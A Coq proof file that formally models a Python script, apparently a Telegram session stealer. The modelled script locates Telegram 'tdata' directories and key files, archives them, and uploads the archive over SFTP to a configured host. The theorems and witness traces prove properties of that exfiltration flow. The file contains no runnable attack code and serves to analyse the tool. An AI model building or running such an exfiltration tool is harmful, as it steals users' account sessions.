  exists found new,
    final (init w cfg (mkGlobals locs insts))
    = mkGlobals (locs ++ found) (insts ++ new)
    /\ (forall d, In d found ->
                  ~ In d locs
                  /\ In d (exe_parents (pgrep w "Telegram.exe")))
    /\ (forall d, In d new -> In d (locs ++ found) /\ is_dir w d = true).
Proof.
  rewrite init_gen. cbv zeta.
  destruct (PORTABLE_DETECTION cfg);
    [destruct (first_unreadable (pgrep w "Telegram.exe"))|].
  - exists [], []. rewrite !app_nil_r. split; [reflexivity|].
    split; intros d [].
  - exists (filter (fun d => negb (Path_in d locs))
                   (exe_parents (pgrep w "Telegram.exe"))),
           (filter (is_dir w)
                   (locs ++ filter (fun d => negb (Path_in d locs))
                                   (exe_parents (pgrep w "Telegram.exe")))).
    split; [reflexivity|]. split.
    + intros d Hd. apply filter_In in Hd. destruct Hd as [Hd Hn].
      split; [|exact Hd].
      apply negb_true_iff in Hn. intros Hin. apply Path_in_In in Hin.
      congruence.
    + intros d Hd. apply filter_In in Hd. exact Hd.
  - exists [], (filter (is_dir w) locs). rewrite app_nil_r.
    split; [reflexivity|]. split; [intros d []|].
    intros d Hd. apply filter_In in Hd. exact Hd.
Qed.

Lemma filter_all_false {A} (f : A -> bool) (l : list A) :
  (forall x, In x l -> f x = false) -> filter f l = [].
Proof.
  intros H. apply filter_nil_iff. exact H.
Qed.

(** X6. [init] accumulates in the module-level lists, so it is not meant
    to run twice: a second [init] on the lists the first one left (the scan
    raising nothing) finds nothing new to append to the candidate list,
    and appends the whole installation set a second time. *)
Theorem init_twice_doubles_installations (w : World) (cfg : Params)
    (locs : list Path) :
  (PORTABLE_DETECTION cfg = true ->
   first_unreadable (pgrep w "Telegram.exe") = None) ->
  let g1 := final (init w cfg (mkGlobals locs [])) in
  final (init w cfg g1)
  = mkGlobals (installation_locations g1)
              (installations g1 ++ installations g1).
Proof.
  intros Hscan g1. subst g1. rewrite !init_gen. cbv zeta.
  destruct (PORTABLE_DETECTION cfg) eqn:Hpd.
  - rewrite (Hscan eq_refl). unfold final. simpl.
    rewrite init_gen. cbv zeta. rewrite Hpd, (Hscan eq_refl). simpl.
    set (found := filter (fun d => negb (Path_in d locs))
                         (exe_parents (pgrep w "Telegram.exe"))).
    assert (Hnone : filter (fun d => negb (Path_in d (locs ++ found)))
                           (exe_parents (pgrep w "Telegram.exe")) = []).
    { apply filter_all_false. intros d Hd. apply negb_false_iff.
      apply Path_in_In. apply in_or_app.
      destruct (Path_in d locs) eqn:Hin.
      - left. apply Path_in_In. exact Hin.
      - right. unfold found. apply filter_In. split; [exact Hd|].
        rewrite Hin. reflexivity. }
    rewrite Hnone, app_nil_r. reflexivity.
  - unfold final. simpl. rewrite init_gen. cbv zeta. rewrite Hpd.
    reflexivity.
Qed.

Lemma init_twice_doubles_installations_witness :
  let w := example_world [telegram_process] None None None None None in
  final (init w example_params_nt
              (final (init w example_params_nt
                           (mkGlobals example_locations_nt []))))
  = mkGlobals (example_locations_nt ++ [portable_dir])
              [portable_dir; portable_dir].
Proof.
  intros w.
  exact (init_twice_doubles_installations w example_params_nt
           example_locations_nt (fun _ => eq_refl)).
Defined.

(** ** Further properties: the archiver and the uploader *)

Lemma forallb_false_split {A} (f : A -> bool) (l : list A) :
  forallb f l = false ->
  exists pre x post,
    l = pre ++ x :: post /\ forallb f pre = true /\ f x = false.
Proof.
  induction l as [|a l IH]; simpl; [discriminate|].
  destruct (f a) eqn:Hfa; simpl.
  - intros H. destruct (IH H) as [pre [x [post [Hl [Hpre Hx]]]]].
    exists (a :: pre), x, post. subst l. simpl. rewrite Hfa. auto.
  - intros _. exists [], a, l. auto.
Qed.

(** a walk that does not survive ends with an exception of [add] or of
    [rglob] *)
Lemma walk_cut (w : World) (loc : Path) (g : Globals) :
  walk_survives w loc = false ->
  exists e t,
    (forall tar, walk w loc tar g = (Raised e, g, t))
    /\ ((exists f, tar_add w f = Some e)
        \/ snd (rglob w loc) = Some e).
Proof.
  unfold walk_survives. intros H.
  destruct (forallb (add_survives w) (fst (rglob w loc))) eqn:Hadds.
  - simpl in H. destruct (snd (rglob w loc)) as [e|] eqn:Hend;
      [|discriminate].
    exists e, (walk_trace w loc). split; [|right; reflexivity].
    intros tar. apply walk_aborts_in_rglob; assumption.
  - destruct (forallb_false_split _ _ Hadds)
      as [fpre [f [fpost [Hfs [Hpre Hf]]]]].
    unfold add_survives in Hf.
    destruct (tar_add w f) as [e|] eqn:Hadd; [|discriminate].
    exists e, (Rglob loc :: map TarAdd (fpre ++ [f])).
    split; [|left; exists f; exact Hadd].
    intros tar. apply walk_aborts_in_add with (fpost := fpost); assumption.
Qed.

Lemma archive_cut (w : World) (locs : list Path) (tar : TarFile)
    (g : Globals) :
  forallb (walk_survives w) locs = false ->
  exists e ta,
    for_each locs (walk w) tar g = (Raised e, g, ta)
    /\ forallb archive_event ta = true
    /\ ((exists f, tar_add w f = Some e)
        \/ (exists loc, snd (rglob w loc) = Some e)).
Proof.
  intros H.
  destruct (forallb_false_split _ _ H) as [lpre [loc [lpost [Hl [Hpre Hloc]]]]].
  destruct (walk_cut w loc g Hloc) as [e [t [Hwalk Hfrom]]].
  exists e, (flat_map (walk_trace w) lpre ++ t). subst locs.
  assert (Hrun : for_each (lpre ++ loc :: lpost) (walk w) tar g
                 = (Raised e, g, flat_map (walk_trace w) lpre ++ t)).
  { apply archive_aborts; assumption. }
  split; [exact Hrun|]. split.
  - pose proof (archive_quiet w (lpre ++ loc :: lpost) tar g) as [_ Hq].
    rewrite Hrun in Hq. exact Hq.
  - destruct Hfrom as [Hf|Hr]; [left; exact Hf|right; exists loc; exact Hr].
Qed.

Lemma tgpyrate_final (w : World) (cfg : Params) (g : Globals) :
  final (tgpyrate w cfg g) = g.
Proof.
  rewrite tgpyrate_run. cbv zeta.
  destruct (archive_quiet w (installations g) (fresh_tar cfg) g) as [Hg _].
  destruct (for_each (installations g) (walk w) (fresh_tar cfg) g)
    as [[[tar|e] g1] ta]; unfold final in Hg; simpl in Hg; subst g1;
    [|reflexivity].
  destruct (send_file_shape w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
              (SFTP_PASS cfg) tar (SFTP_DEST cfg) g) as [Hf _].
  destruct (send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
              (SFTP_PASS cfg) tar (SFTP_DEST cfg) g) as [[[[]|e] g2] tu];
    exact Hf.
Qed.

(** X7. The archiver and the uploader leave the module-level lists alone:
    at the end of any run the candidate list and the installation set are
    what [init] left. *)
Theorem lists_fixed_after_init (w : World) (cfg : Params)
    (locs : list Path) :
  final (run w cfg locs) = final (init w cfg (mkGlobals locs []))
  /\ forall g, final (tgpyrate w cfg g) = g.
Proof.
  split; [|apply tgpyrate_final].
  rewrite run_unfold.
  destruct (init w cfg (mkGlobals locs [])) as [[[[]|e] g1] t1];
    [|reflexivity].
  unfold final. simpl. apply tgpyrate_final.
Qed.

(** X8. The script does not check the range of the compression level: any
    level other than zero, negative or above 9 included, is handed as it is
    to the one [tarfile.open] call, with mode ['w:gz']. *)
Theorem any_nonzero_level_is_passed_on (w : World) (cfg : Params)
    (g : Globals) (n : Z) :
  n <> 0%Z ->
  GZIP_COMP_LEVEL cfg = Some n ->
  In (TarOpen "w:gz" (Some n)) (trace (tgpyrate w cfg g))
  /\ forall mode level,
       In (TarOpen mode level) (trace (tgpyrate w cfg g)) ->
       mode = "w:gz" /\ level = Some n.
Proof.
  intros Hn Hl.
  pose proof (tgpyrate_opens w cfg g) as H. unfold fresh_tar in H.
  rewrite Hl in H. simpl in H.
  destruct (n =? 0)%Z eqn:Hz; [apply Z.eqb_eq in Hz; contradiction|].
  exact H.
Qed.

Lemma any_nonzero_level_is_passed_on_witness :
  In (TarOpen "w:gz" (Some 12%Z))
     (trace (tgpyrate (example_world [] None None None None None)
                      (example_params false (Some 12%Z))
                      (mkGlobals example_locations [tdata]))).
Proof.
  apply (any_nonzero_level_is_passed_on
           (example_world [] None None None None None)
           (example_params false (Some 12%Z))
           (mkGlobals example_locations [tdata]) 12%Z).
  - discriminate.
  - reflexivity.
Defined.


Lemma final_triple {A} (r : result A) (g : Globals) (t : list event) :
  final (r, g, t) = g.
Proof. reflexivity. Qed.

Lemma trace_triple {A} (r : result A) (g : Globals) (t : list event) :
  trace (r, g, t) = t.
Proof. reflexivity. Qed.





(** [tgpyrate] either is cut short in the archive loop, by an exception of
    [add] or [rglob], or hands the complete archive to [send_file] *)
Lemma tgpyrate_cases (w : World) (cfg : Params) (g : Globals) :
  let head := [TemporaryFile;
               TarOpen (tar_mode (fresh_tar cfg))
                       (tar_compresslevel (fresh_tar cfg))] in
  let s := send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                     (SFTP_PASS cfg)
                     (complete_archive w cfg (installations g))
                     (SFTP_DEST cfg) g in
  (forallb (walk_survives w) (installations g) = false
   /\ exists e ta,
        tgpyrate w cfg g = (Raised e, g, head ++ ta)
        /\ forallb archive_event ta = true
        /\ ((exists f, tar_add w f = Some e)
            \/ (exists loc, snd (rglob w loc) = Some e)))
  \/ (forallb (walk_survives w) (installations g) = true
      /\ tgpyrate w cfg g
         = (outcome s, final s,
            head ++ flat_map (walk_trace w) (installations g)
                 ++ TarClose :: Seek 0
                 :: trace s ++ match outcome s with
                               | Ok _ => [TempClose]
                               | Raised _ => []
                               end)).
Proof.
  intros head s. subst head s.
  destruct (forallb (walk_survives w) (installations g)) eqn:Hs.
  - right. split; [reflexivity|]. apply tgpyrate_survives. exact Hs.
  - left. split; [reflexivity|].
    destruct (archive_cut w (installations g) (fresh_tar cfg) g Hs)
      as [e [ta [Hrun [Ha Hfrom]]]].
    exists e, ta. split; [|split; assumption].
    apply tgpyrate_aborts. exact Hrun.
Qed.




Lemma filter_network_archive (ta : list event) :
  forallb archive_event ta = true -> filter network_event ta = [].
Proof.
  induction ta as [|ev ta IH]; simpl; [reflexivity|].
  intros H. apply andb_prop in H. destruct H as [Hev Hta].
  destruct ev; try discriminate; simpl; apply IH; exact Hta.
Qed.

Lemma walk_traces_archive (w : World) (locs : list Path) :
  forallb archive_event (flat_map (walk_trace w) locs) = true.
Proof.
  induction locs as [|loc locs IH]; [reflexivity|].
  change (flat_map (walk_trace w) (loc :: locs))
    with (walk_trace w loc ++ flat_map (walk_trace w) locs).
  rewrite forallb_app, IH, andb_true_r. unfold walk_trace. simpl.
  induction (fst (rglob w loc)) as [|f fs IHf]; [reflexivity|exact IHf].
Qed.

Lemma filter_network_upload (n : nat) (host : string) (port : Z)
    (user pwd : string) (file : TarFile) (dest : string) :
  filter network_event (firstn n (upload_calls host port user pwd file dest))
  = firstn n (upload_calls host port user pwd file dest).
Proof.
  destruct n as [|[|[|[|[|[|n]]]]]]; try reflexivity.
  simpl. rewrite firstn_nil. reflexivity.
Qed.

(** X10. There is no retry and no second upload: in any run the calls into
    paramiko, taken in order, are an initial part of the one fixed sequence
    transport, connect, session, [putfo], close, close, made with the
    configured host, port, user, password and destination name, and the
    file given to [putfo] is the complete archive of the installation
    set. *)
Theorem network_calls_are_one_attempt (w : World) (cfg : Params)
    (locs : list Path) :
  exists n,
    filter network_event (trace (run w cfg locs))
    = firstn n (upload_calls (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                  (SFTP_PASS cfg)
                  (complete_archive w cfg
                     (installations (final (run w cfg locs))))
                  (SFTP_DEST cfg)).
Proof.
  rewrite run_unfold.
  pose proof (init_quiet w cfg (mkGlobals locs [])) as Hq.
  destruct (init w cfg (mkGlobals locs [])) as [[[[]|e] g1] t1];
    rewrite trace_triple in Hq; subst t1.
  2:{ exists 0. reflexivity. }
  cbn [app]. rewrite <- surjective_pairing.
  destruct (tgpyrate_cases w cfg g1)
    as [[_ [e [ta [Hrun [Ha _]]]]]|[_ Hrun]]; rewrite Hrun; cbv zeta.
  { exists 0. rewrite trace_triple. cbn [app filter network_event].
    rewrite (filter_network_archive ta Ha). reflexivity. }
  set (s := send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                      (SFTP_PASS cfg)
                      (complete_archive w cfg (installations g1))
                      (SFTP_DEST cfg) g1).
  destruct (send_file_shape w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
              (SFTP_PASS cfg) (complete_archive w cfg (installations g1))
              (SFTP_DEST cfg) g1) as [Hfin Hshape].
  fold s in Hfin, Hshape.
  rewrite trace_triple, final_triple, Hfin.
  cbn [app filter network_event].
  rewrite filter_app,
    (filter_network_archive _ (walk_traces_archive w (installations g1))).
  cbn [app filter network_event]. rewrite filter_app.
  destruct Hshape as [[Ho Ht]|[e [n [Ho [_ Ht]]]]]; rewrite Ho, Ht.
  - exists 6. reflexivity.
  - exists n. rewrite filter_network_upload. cbn [filter].
    rewrite app_nil_r. reflexivity.
Qed.

Lemma split_after_prefix {A} (p : A -> bool) (pre post t1 t2 : list A)
    (x : A) :
  t1 ++ x :: t2 = pre ++ post ->
  forallb (fun y => negb (p y)) pre = true ->
  p x = true ->
  exists t1', t1 = pre ++ t1' /\ post = t1' ++ x :: t2.
Proof.
  revert t1. induction pre as [|a pre IH]; intros t1 Heq Hpre Hx.
  - exists t1. split; [reflexivity|]. simpl in Heq. symmetry. exact Heq.
  - simpl in Hpre. apply andb_prop in Hpre. destruct Hpre as [Ha Hpre].
    destruct t1 as [|b t1]; simpl in Heq; inversion Heq; subst.
    + rewrite Hx in Ha. discriminate.
    + destruct (IH t1 H1 Hpre Hx) as [t1' [H1' H2']].
      exists t1'. subst t1. split; [reflexivity|exact H2'].
Qed.

(** X11. The upload starts only on a finished archive: in any run, before
    a call into paramiko the archive has been closed and the temporary file
    rewound, and after it nothing more is walked or added; the only calls
    that follow are calls into paramiko and the close of the temporary
    file. *)
Theorem upload_only_after_archive_closed (w : World) (cfg : Params)
    (locs : list Path) (t1 t2 : list event) (ev : event) :
  trace (run w cfg locs) = t1 ++ ev :: t2 ->
  network_event ev = true ->
  In TarClose t1
  /\ In (Seek 0) t1
  /\ forall ev', In ev' t2 -> network_event ev' = true \/ ev' = TempClose.
Proof.
  intros Ht Hev.
  destruct (run_kind w cfg locs) as [[e [_ Hnil]]|K].
  { rewrite Hnil in Ht. destruct t1; discriminate. }
  destruct K as [e ta He Ha Htr|ta tu tar Ha Hs Htr].
  { exfalso. assert (Hin : In ev (trace (run w cfg locs))).
    { rewrite Ht. apply in_or_app. right. left. reflexivity. }
    rewrite Htr in Hin. simpl in Hin.
    destruct Hin as [<-|[<-|Hin]]; try discriminate.
    apply (archive_event_In _ _ Ha) in Hin.
    destruct ev; discriminate. }
  set (pre := TemporaryFile
              :: TarOpen (tar_mode (fresh_tar cfg))
                         (tar_compresslevel (fresh_tar cfg))
              :: ta ++ [TarClose; Seek 0]).
  set (post := tu ++ match outcome (run w cfg locs) with
                     | Ok _ => [TempClose]
                     | Raised _ => []
                     end).
  assert (Hsplit : t1 ++ ev :: t2 = pre ++ post).
  { rewrite <- Ht, Htr. unfold pre, post. simpl. rewrite <- app_assoc.
    reflexivity. }
  assert (Hpre : forallb (fun y => negb (network_event y)) pre = true).
  { unfold pre. simpl. rewrite forallb_app. simpl. rewrite andb_true_r.
    clear - Ha. induction ta as [|a ta IH]; [reflexivity|].
    simpl in *. apply andb_prop in Ha. destruct Ha as [Ha Hta].
    rewrite (IH Hta), andb_true_r. destruct a; try discriminate; reflexivity. }
  destruct (split_after_prefix network_event pre post t1 t2 ev Hsplit Hpre Hev)
    as [t1' [H1 H2]].
  subst t1. split; [|split].
  - apply in_or_app. left. unfold pre. right. right.
    apply in_or_app. right. left. reflexivity.
  - apply in_or_app. left. unfold pre. right. right.
    apply in_or_app. right. right. left. reflexivity.
  - intros ev' Hin.
    assert (Hpost : In ev' post).
    { rewrite H2. apply in_or_app. right. right. exact Hin. }
    unfold post in Hpost. apply in_app_or in Hpost.
    destruct Hpost as [Htu|Htail].
    + left.
      destruct (send_file_shape w (SFTP_HOST cfg) (SFTP_PORT cfg)
                  (SFTP_USER cfg) (SFTP_PASS cfg) tar (SFTP_DEST cfg)
                  (final (run w cfg locs)))
        as [_ [[_ Hsh]|[e [n [_ [_ Hsh]]]]]];
        rewrite Hs, trace_triple in Hsh; subst tu.
      * simpl in Htu.
        repeat (destruct Htu as [<-|Htu]; [reflexivity|]). destruct Htu.
      * apply firstn_In in Htu. simpl in Htu.
        repeat (destruct Htu as [<-|Htu]; [reflexivity|]). destruct Htu.
    + right. destruct (outcome (run w cfg locs)); [|destruct Htail].
      destruct Htail as [<-|[]]. reflexivity.
Qed.

Lemma upload_only_after_archive_closed_witness :
  In TarClose
     [TemporaryFile; TarOpen "w" None; Rglob tdata;
      TarAdd (Path_join tdata ["tdata"]); TarAdd key_datas;
      TarAdd (Path_join tdata ["log.txt"]); TarClose; Seek 0].
Proof.
  refine (proj1 (upload_only_after_archive_closed
                   (example_world [] (Some PermissionError) None None None
                                  None)
                   (example_params false None) example_locations
                   [TemporaryFile; TarOpen "w" None; Rglob tdata;
                    TarAdd (Path_join tdata ["tdata"]); TarAdd key_datas;
                    TarAdd (Path_join tdata ["log.txt"]); TarClose; Seek 0]
                   [Connect "user" "secret"; FromTransport;
                    Putfo (mkTar "w" None
                                 [Path_join tdata ["tdata"];
                                  Path_join tdata ["log.txt"]])
                          (import_SFTP_DEST example_env);
                    SftpClose; TransportClose; TempClose]
                   (Transport "203.0.113.7" 22) _ _)).
  - vm_compute. reflexivity.
  - reflexivity.
Defined.

Lemma add_loop_walks (w : World) (d : Path) (fs : list Path) :
  forall tar g, walks d (trace (for_each fs (add_entry w) tar g)) = 0.
Proof.
  induction fs as [|f fs IH]; intros tar g; simpl; [reflexivity|].
  unfold bind. unfold add_entry at 1. run_m.
  destruct (tar_add w f) as [e|]; simpl.
  - destruct (isinstance_PermissionError e); simpl; [|reflexivity].
    specialize (IH tar g).
    destruct (for_each fs (add_entry w) tar g) as [[r g'] t]. exact IH.
  - specialize (IH (tar_extend tar [f]) g).
    destruct (for_each fs (add_entry w) (tar_extend tar [f]) g)
      as [[r g'] t]. exact IH.
Qed.

Lemma walk_walks (w : World) (d loc : Path) (tar : TarFile) (g : Globals) :
  walks d (trace (walk w loc tar g)) = if Path_eqb loc d then 1 else 0.
Proof.
  unfold walk.
  pose proof (add_loop_walks w d (fst (rglob w loc)) tar g) as Hadds.
  unfold bind, emit, ret, raise.
  destruct (for_each (fst (rglob w loc)) (add_entry w) tar g)
    as [[[tar'|e] g'] t]; rewrite trace_triple in Hadds.
  - destruct (snd (rglob w loc)); rewrite trace_triple;
      rewrite !walks_app, Hadds; unfold walks; simpl;
      destruct (Path_eqb loc d); reflexivity.
  - rewrite trace_triple, walks_app, Hadds. unfold walks. simpl.
    destruct (Path_eqb loc d); reflexivity.
Qed.

Lemma archive_walks_le (w : World) (d : Path) (locs : list Path) :
  forall tar g,
    walks d (trace (for_each locs (walk w) tar g))
    <= count_occ Path_eq_dec locs d.
Proof.
  induction locs as [|loc locs IH]; intros tar g; simpl; [apply Nat.le_refl|].
  pose proof (walk_walks w d loc tar g) as Hw.
  pose proof (walk_quiet w loc tar g) as [Hg _].
  unfold bind.
  destruct (walk w loc tar g) as [[[tar'|e] g'] t];
    rewrite trace_triple in Hw; rewrite final_triple in Hg; subst g'.
  - specialize (IH tar' g).
    destruct (for_each locs (walk w) tar' g) as [[r g''] t'].
    rewrite trace_triple in *. rewrite walks_app, Hw.
    unfold Path_eqb. destruct (Path_eq_dec loc d); lia.
  - rewrite trace_triple, Hw.
    unfold Path_eqb. destruct (Path_eq_dec loc d); lia.
Qed.

Lemma tgpyrate_walks_le (w : World) (cfg : Params) (g : Globals) (d : Path) :
  walks d (trace (tgpyrate w cfg g))
  <= count_occ Path_eq_dec (installations g) d.
Proof.
  rewrite tgpyrate_run. cbv zeta.
  pose proof (archive_walks_le w d (installations g) (fresh_tar cfg) g) as Hle.
  destruct (for_each (installations g) (walk w) (fresh_tar cfg) g)
    as [[[tar|e] g1] ta]; rewrite trace_triple in Hle.
  - pose proof (walks_upload w d (SFTP_HOST cfg) (SFTP_PORT cfg)
                  (SFTP_USER cfg) (SFTP_PASS cfg) tar (SFTP_DEST cfg) g1)
      as Hup.
    destruct (send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                (SFTP_PASS cfg) tar (SFTP_DEST cfg) g1)
      as [[[[]|e] g2] tu]; rewrite trace_triple in *;
      rewrite walks_app, walks_app; rewrite !walks_cons_other by reflexivity;
      [rewrite walks_app|]; rewrite Hup; cbn; lia.
  - rewrite trace_triple, walks_app. cbn. exact Hle.
Qed.

Lemma run_walks_le (w : World) (cfg : Params) (locs : list Path) (d : Path) :
  walks d (trace (run w cfg locs))
  <= count_occ Path_eq_dec
       (installations (final (init w cfg (mkGlobals locs [])))) d.
Proof.
  rewrite run_unfold.
  pose proof (init_quiet w cfg (mkGlobals locs [])) as Hq.
  destruct (init w cfg (mkGlobals locs [])) as [[[[]|e] g1] t1];
    rewrite trace_triple in Hq; subst t1; rewrite final_triple.
  - cbn [app]. rewrite <- surjective_pairing. apply tgpyrate_walks_le.
  - rewrite trace_triple. apply Nat.le_0_l.
Qed.

(** X12. No directory is walked more often than it occurs in the
    installation set: in any run the number of [rglob] calls on [d] is at
    most the number of occurrences of [d] in the installation set [init]
    left, so a path outside that set is never walked. *)
Theorem walks_bounded_by_installations (w : World) (cfg : Params)
    (locs : list Path) (d : Path) :
  walks d (trace (run w cfg locs))
  <= count_occ Path_eq_dec
       (installations (final (init w cfg (mkGlobals locs [])))) d
  /\ (~ In d (installations (final (init w cfg (mkGlobals locs [])))) ->
      ~ In (Rglob d) (trace (run w cfg locs))).
Proof.
  split; [apply run_walks_le|].
  intros Hnot Hin.
  pose proof (run_walks_le w cfg locs d) as Hle.
  rewrite (proj1 (count_occ_not_In Path_eq_dec _ d) Hnot) in Hle.
  assert (Hpos : 0 < walks d (trace (run w cfg locs))); [|lia].
  clear Hle. unfold walks.
  induction (trace (run w cfg locs)) as [|ev t IH]; [destruct Hin|].
  simpl. destruct Hin as [->|Hin].
  - unfold Path_eqb. destruct (Path_eq_dec d d); [simpl; lia|congruence].
  - destruct ev; try (apply IH; exact Hin).
    destruct (Path_eqb loc d); [simpl; lia|apply IH; exact Hin].
Qed.

Lemma walks_bounded_by_installations_witness :
  ~ In (Rglob portable_dir)
       (trace (run (example_world [] None None None None None)
                   (example_params false None) example_locations)).
Proof.
  apply (proj2 (walks_bounded_by_installations
                  (example_world [] None None None None None)
                  (example_params false None) example_locations
                  portable_dir)).
  vm_compute. intros [H|[]]. discriminate.
Defined.

Lemma Path_join_inj (base : Path) (l l' : list string) :
  Path_join base l = Path_join base l' -> l = l'.
Proof.
  unfold Path_join. intros H. inversion H as [Hn].
  apply app_inv_head in Hn. exact Hn.
Qed.

Lemma static_locations_NoDup (env : Env) :
  os_name env <> "nt" -> NoDup (import_installation_locations env).
Proof.
  intros Hos. unfold import_installation_locations.
  apply String.eqb_neq in Hos. rewrite Hos. rewrite app_nil_r.
  repeat constructor; simpl; intros H;
    repeat (destruct H as [H|H];
            [apply Path_join_inj in H; discriminate|]);
    exact H.
Qed.

(** X13. Off Windows the static candidate list has no duplicate, whatever
    the home directory, so the installation set has none either and every
    directory is walked at most once in a run. *)
Theorem off_windows_each_directory_walked_once (env : Env) (host : string)
    (port : Z) (user pwd : string) (level : option Z) (w : World) (d : Path) :
  os_name env <> "nt" ->
  let cfg := import_params env host port user pwd level in
  let locs := import_installation_locations env in
  NoDup locs
  /\ NoDup (installations (final (init w cfg (mkGlobals locs []))))
  /\ walks d (trace (run w cfg locs)) <= 1.
Proof.
  intros Hos cfg locs.
  pose proof (static_locations_NoDup env Hos) as Hnd. fold locs in Hnd.
  assert (Hpd : PORTABLE_DETECTION cfg = false).
  { unfold cfg. simpl. unfold import_PORTABLE_DETECTION.
    apply String.eqb_neq in Hos. rewrite Hos. reflexivity. }
  assert (Hinst : installations (final (init w cfg (mkGlobals locs [])))
                  = filter (is_dir w) locs).
  { rewrite init_gen. cbv zeta. rewrite Hpd. reflexivity. }
  assert (Hnd' : NoDup (installations
                          (final (init w cfg (mkGlobals locs []))))).
  { rewrite Hinst. apply NoDup_filter. exact Hnd. }
  split; [exact Hnd|]. split; [exact Hnd'|].
  pose proof (run_walks_le w cfg locs d) as Hle.
  pose proof (proj1 (NoDup_count_occ Path_eq_dec _) Hnd' d) as Hone.
  lia.
Qed.

Lemma off_windows_each_directory_walked_once_witness :
  walks tdata
        (trace (run (example_world [] None None None None None)
                    (import_params example_env "203.0.113.7" 22 "user"
                                   "secret" None)
                    (import_installation_locations example_env)))
  <= 1.
Proof.
  refine (proj2 (proj2 (off_windows_each_directory_walked_once
                          example_env "203.0.113.7" 22 "user" "secret" None
                          (example_world [] None None None None None)
                          tdata _))).
  discriminate.
Defined.





(** X15. The emptiness check is in [init] alone: [tgpyrate] started on an
    empty installation set walks nothing, and still opens the archive,
    closes it, and gives the empty archive to [send_file]. *)
Theorem tgpyrate_uploads_empty_archive (w : World) (cfg : Params)
    (g : Globals) :
  installations g = [] ->
  let s := send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                     (SFTP_PASS cfg) (fresh_tar cfg) (SFTP_DEST cfg) g in
  tar_members (fresh_tar cfg) = []
  /\ tgpyrate w cfg g
     = (outcome s, final s,
        [TemporaryFile;
         TarOpen (tar_mode (fresh_tar cfg))
                 (tar_compresslevel (fresh_tar cfg));
         TarClose; Seek 0]
        ++ trace s ++ match outcome s with
                      | Ok _ => [TempClose]
                      | Raised _ => []
                      end).
Proof.
  intros Hi s. subst s. split.
  - unfold fresh_tar. destruct (truthy (GZIP_COMP_LEVEL cfg)); reflexivity.
  - assert (Hs : forallb (walk_survives w) (installations g) = true)
      by (rewrite Hi; reflexivity).
    rewrite (tgpyrate_survives w cfg g Hs). cbv zeta.
    rewrite Hi. unfold yielded. simpl. rewrite tar_extend_nil. reflexivity.
Qed.

Lemma tgpyrate_uploads_empty_archive_witness :
  trace (tgpyrate (example_world [] None None None None None)
                  (example_params false None) (mkGlobals [] []))
  = [TemporaryFile; TarOpen "w" None; TarClose; Seek 0;
     Transport "203.0.113.7" 22; Connect "user" "secret"; FromTransport;
     Putfo (mkTar "w" None []) (import_SFTP_DEST example_env);
     SftpClose; TransportClose; TempClose].
Proof.
  rewrite (proj2 (tgpyrate_uploads_empty_archive
                    (example_world [] None None None None None)
                    (example_params false None) (mkGlobals [] [])
                    eq_refl)).
  reflexivity.
Defined.

(** X16. [except Exception] does not catch what derives from
    [BaseException] only: when [paramiko.Transport] raises such an
    exception (a keyboard interrupt, say), a run that gets there ends with
    that very exception and not with [exit(1)]; [connect] is not called and
    the temporary file is not closed. *)
Theorem base_exception_from_transport_propagates (w : World) (cfg : Params)
    (locs : list Path) (e : pyexc) :
  transport_new w (SFTP_HOST cfg) (SFTP_PORT cfg) = Some e ->
  isinstance_Exception e = false ->
  In (Transport (SFTP_HOST cfg) (SFTP_PORT cfg)) (trace (run w cfg locs)) ->
  outcome (run w cfg locs) = Raised e
  /\ (forall user pwd, ~ In (Connect user pwd) (trace (run w cfg locs)))
  /\ ~ In TempClose (trace (run w cfg locs)).
Proof.
  intros Hnew He Hin.
  destruct (run_kind w cfg locs) as [[e0 [_ Ht]]|K].
  { rewrite Ht in Hin. destruct Hin. }
  destruct K as [e0 ta He0 Ha Ht|ta tu tar Ha Hs Ht].
  { rewrite Ht in Hin. simpl in Hin.
    destruct Hin as [Hin|[Hin|Hin]]; try discriminate.
    apply (archive_event_In _ _ Ha) in Hin. discriminate. }
  rewrite (send_file_interrupted w _ _ _ _ _ _ _ e Hnew He) in Hs.
  inversion Hs as [[Ho Htu]]. rewrite <- Ho in *. subst tu.
  split; [reflexivity|].
  split; [intros user pwd Hx|intros Hx]; rewrite Ht in Hx; simpl in Hx;
    (destruct Hx as [Hx|[Hx|Hx]]; try discriminate;
     apply in_app_or in Hx; destruct Hx as [Hx|Hx];
     [apply (archive_event_In _ _ Ha) in Hx; discriminate|];
     simpl in Hx; repeat (destruct Hx as [Hx|Hx]; try discriminate);
     destruct Hx).
Qed.

Lemma base_exception_from_transport_propagates_witness :
  outcome (run (example_world [] None None
                  (Some (OtherBaseException "KeyboardInterrupt")) None None)
               (example_params false None) example_locations)
  = Raised (OtherBaseException "KeyboardInterrupt").
Proof.
  refine (proj1 (base_exception_from_transport_propagates
                   (example_world [] None None
                      (Some (OtherBaseException "KeyboardInterrupt"))
                      None None)
                   (example_params false None) example_locations
                   (OtherBaseException "KeyboardInterrupt")
                   eq_refl eq_refl _)).
  vm_compute. tauto.
Defined.

Lemma scan_raises_first_unreadable_witness :
  let w := example_world
             [telegram_process;
              mkProcess (Some "Telegram.exe")
                        (Raised (OtherException "AccessDenied"))]
             None None None None None in
  exists p, In p (pgrep w "Telegram.exe")
            /\ p_exe p = Raised (OtherException "AccessDenied").
Proof.
  intros w.
  exact (proj1 (proj2 (scan_raises_first_unreadable
                         w (mkGlobals example_locations_nt [])))
               (OtherException "AccessDenied") eq_refl).
Defined.
